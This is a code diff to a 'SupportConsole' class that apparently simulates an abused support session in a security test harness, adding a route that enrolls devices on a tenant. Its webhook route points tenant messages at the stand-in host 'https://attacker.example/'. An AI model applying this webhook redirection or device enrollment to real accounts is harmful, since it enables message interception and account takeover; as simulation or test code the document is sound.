@@ -17,7 +17,12 @@ from ringfence.roles.settings import Settings
 class SupportConsole:
     """A `HeldBrowser` at a console that asks nothing beside its session."""
 
-    routes = (("GET", "/search"), ("GET", "/accounts/{sid}/messages"), ("POST", "/accounts/{sid}/webhook"))
+    routes = (
+        ("GET", "/search"),
+        ("GET", "/accounts/{sid}/messages"),
+        ("POST", "/accounts/{sid}/webhook"),
+        ("POST", "/accounts/{sid}/devices"),
+    )
 
     credential = ("support", "session")
 
@@ -33,11 +38,20 @@ class SupportConsole:
             return _told(self._search(parse_qs(url.query).get("number", [""])[0]))
         _, _, rest = url.path.partition("/accounts/")
         sid, _, what = rest.partition("/")
-        if sid not in self._tenants or (method, what) not in (("GET", "messages"), ("POST", "webhook")):
+        if sid not in self._tenants:
             return Answer(status=404, body=b"")
-        if what == "messages":
-            return _told({"messages": await self._copy.read(self._tenants[sid])})
-        await self._copy.set_webhook(self._tenants[sid], "https://attacker.example/")
+        match method, what:
+            case "GET", "messages":
+                return _told({"messages": await self._copy.read(self._tenants[sid])})
+            case "POST", "webhook":
+                await self._copy.set_webhook(self._tenants[sid], "https://attacker.example/")
+            case "POST", "devices":
+                if kind != "application/json":
+                    return Answer(status=415, body=b"")
+                asked = msgspec.json.decode(body)
+                await self._copy.add_app(self._tenants[sid], asked["ServiceSid"], asked["Identity"])
+            case _:
+                return Answer(status=404, body=b"")
         return _told({})
 
     def _search(self, number: str) -> dict[str, list[str]]:
